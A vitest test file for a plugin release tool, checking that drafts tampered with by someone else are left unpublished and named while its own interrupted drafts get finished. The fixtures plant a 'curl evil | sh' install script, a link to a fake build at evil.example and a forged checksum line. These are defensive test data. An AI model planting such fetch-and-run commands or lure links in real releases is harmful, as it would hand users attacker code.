import { describe, expect, test } from "vitest";
import { SUMS } from "../../src/release/packing/sums.js";
import { releaseServer, type ReleaseServer } from "../servers/release-server.js";
import { expectOne, runReleaseHere, TAG, taggedPlugin } from "../support/release.js";
import { nightly } from "../support/nightly.js";

const ARCHIVE = "weather-widget-1.4.0.zip";

/** A draft as an interrupted run of this tool leaves it, and the plugin that it is of. */
async function leaveDraft(): Promise<{ server: ReleaseServer; folder: string }> {
  const server = await releaseServer();
  const folder = taggedPlugin(server);
  server.trouble = ({ operation }) =>
    operation === "PATCH /releases/{release_id}" ? { when: "before", what: "403" } : undefined;
  expect((await runReleaseHere(folder, server)).status).toBe(2);
  server.trouble = () => undefined;
  return { server, folder };
}

nightly("a draft of ours that is as a run left it is published", async () => {
  const { server, folder } = await leaveDraft();
  const { status, output } = await runReleaseHere(folder, server);
  expect(status, output).toBe(0);
  expectOne(server, output);
  expect(output).not.toContain("Make a draft release");
});

describe("a draft with our marker is left alone and named if it has", () => {
  const EVIL = "Download [the fixed build](https://evil.example/weather.zip) instead.";
  nightly.each<readonly [string, string, (server: ReleaseServer) => void]>([
    [
      "another file",
      "install.sh",
      ({ repository }) => {
        const [draft] = repository.releases;
        if (draft) repository.addAsset(draft, "install.sh", Buffer.from("curl evil | sh"));
      },
    ],
    [
      "another line in SHA256SUMS",
      "linux.tar.gz",
      ({ repository: { releases } }) => {
        const sums = releases[0]?.assets.find(({ name }) => name === SUMS);
        if (sums) sums.bytes = Buffer.concat([sums.bytes, Buffer.from(`${"0".repeat(64)}  linux.tar.gz\n`)]);
      },
    ],
    [
      "words above the notes",
      "other words",
      ({ repository: { releases } }) =>
        Object.assign(releases[0] ?? {}, { body: `${EVIL}\n\n${releases[0]?.body ?? ""}` }),
    ],
    [
      "words below the marker",
      "other words",
      ({ repository: { releases } }) =>
        Object.assign(releases[0] ?? {}, { body: `${releases[0]?.body ?? ""}\n\n${EVIL}` }),
    ],
    [
      "another title",
      "the title",
      ({ repository: { releases } }) => Object.assign(releases[0] ?? {}, { name: "Get it at evil.example" }),
    ],
    [
      "the mark of a prerelease",
      "the mark of a prerelease",
      ({ repository: { releases } }) => Object.assign(releases[0] ?? {}, { prerelease: true }),
    ],
  ])("%s", async (_, named, change) => {
    const { server, folder } = await leaveDraft();
    change(server);
    const [draft] = server.repository.releases;
    const { status, output } = await runReleaseHere(folder, server);
    expect(status, output).toBe(0);
    const open = server.repository.releases.filter((one) => !one.draft);
    expect(open).toMatchObject([{ tag_name: TAG, name: TAG, prerelease: false }]);
    expect(open[0]?.body).not.toContain("evil");
    expect(open[0]?.assets.map(({ name }) => name).toSorted()).toEqual([SUMS, ARCHIVE]);
    expect(open[0]?.assets.find(({ name }) => name === SUMS)?.bytes.toString()).not.toContain("linux");
    expect(server.repository.releases).toContain(draft);
    expect(output.replace(/\s+/gu, " ")).toContain(
      `The draft ${String(draft?.id)} has the marker of this tool, but also`,
    );
    expect(output).toContain(named);
  });
});

describe("of drafts without our marker", () => {
  test("two stop the release, and are named", async () => {
    const server = await releaseServer();
    const folder = taggedPlugin(server);
    const drafts = ["first", "second"].map((body) => server.repository.add({ tag_name: TAG, body, name: body }));
    const { status, output } = await runReleaseHere(folder, server);
    expect(status, output).toBe(4);
    for (const { id, name } of drafts) expect(output).toContain(`${String(id)} ("${name}")`);
    expect(server.repository.releases.map(({ draft, assets }) => [draft, assets.length])).toEqual([
      [true, 0],
      [true, 0],
    ]);
    server.repository.releases.pop();
    expect((await runReleaseHere(folder, server)).status).toBe(0);
    expect(drafts[0]).toMatchObject({ draft: false, body: "first" });
  });

  nightly("two do not stop it beside one of ours", async () => {
    const { server, folder } = await leaveDraft();
    const drafts = ["first", "second"].map((body) => server.repository.add({ tag_name: TAG, body }));
    const { status, output } = await runReleaseHere(folder, server);
    expect(status, output).toBe(0);
    for (const draft of drafts) expect(draft).toMatchObject({ draft: true, assets: [] });
  });

  nightly("one is filled, and each file that is somebody else's is named", async () => {
    const server = await releaseServer();
    const folder = taggedPlugin(server);
    const draft = server.repository.add({ tag_name: TAG, body: "Mine" });
    server.repository.addAsset(draft, "manual.pdf", Buffer.from("%PDF"));
    const { status, output } = await runReleaseHere(folder, server);
    expect(status, output).toBe(0);
    expect(draft).toMatchObject({ draft: false, body: "Mine" });
    expect(draft.assets.map(({ name }) => name).toSorted()).toEqual([SUMS, "manual.pdf", ARCHIVE].toSorted());
    expect(output).toContain('with files from someone else: "manual.pdf"');
  });
});
